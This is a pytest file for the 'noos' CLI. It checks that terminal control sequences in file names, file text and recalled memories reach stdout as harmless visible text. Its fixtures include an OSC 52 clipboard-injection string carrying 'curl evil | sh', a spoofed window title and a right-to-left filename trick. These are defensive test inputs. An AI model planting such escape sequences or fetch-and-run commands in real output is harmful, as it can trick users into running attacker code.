"""What `noos` prints of what others wrote is shown, never obeyed: a file name,
a file's content or a memory with terminal controls in it (the clipboard set
by OSC 52, the window title by OSC 0) reaches stdout as visible text."""

from __future__ import annotations

import base64
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from noos.memory import SyncMemory
from tests.fixtures.index import running_index
from tests.fixtures.memory import start_memory
from tests.fixtures.models import shipped_models_tree
from tests.fixtures.private_bus import PrivateBus
from tests.integration.sdk.test_cli import noos

CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl evil | sh").decode() + "\x07"
TITLE = "\x1b]0;root@host\x1b\\"
HOSTILE = f"{CLIPBOARD}{TITLE}\x9b2J\u202etxt.exe\r"
CONTROLS = ("\x1b", "\x07", "\x9b", "\u202e", "\r")
INDEXED_S = 60.0


def controls_in(text: str) -> list[str]:
    return [control for control in CONTROLS if control in text]


@pytest.fixture
def own_bus() -> Iterator[str]:
    bus = PrivateBus()
    yield bus.address
    bus.stop()


def test_index_search_shows_a_file_s_controls_as_text(own_bus: str, tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    (home / f"heron-{HOSTILE}.txt").write_text(
        f"The heron nests by the weir.\n{CLIPBOARD} and {TITLE} and {HOSTILE}\n"
    )
    with running_index(own_bus, tmp_path / "state", home):
        deadline = time.monotonic() + INDEXED_S
        while "heron-" not in (found := noos("--bus", own_bus, "index", "search", "heron")).stdout:
            assert time.monotonic() < deadline, found
            time.sleep(0.5)
    assert found.returncode == 0, found.stderr
    assert controls_in(found.stdout) == [], found.stdout
    assert "␛]52;c;" in found.stdout  # shown, so nothing is hidden either


def test_memory_recall_shows_a_memory_s_controls_as_text(own_bus: str, tmp_path: Path) -> None:
    process = start_memory(own_bus, tmp_path / "memory", shipped_models_tree())
    try:
        with SyncMemory(own_bus) as memory:
            memory.remember(f"the heron nests by the weir {HOSTILE}", kind="note")
        recalled = noos("--bus", own_bus, "memory", "recall", "heron")
    finally:
        assert process.terminate() == 0, process.stderr
    assert recalled.returncode == 0, recalled.stderr
    assert controls_in(recalled.stdout) == [], recalled.stdout
    assert "␛]52;c;" in recalled.stdout
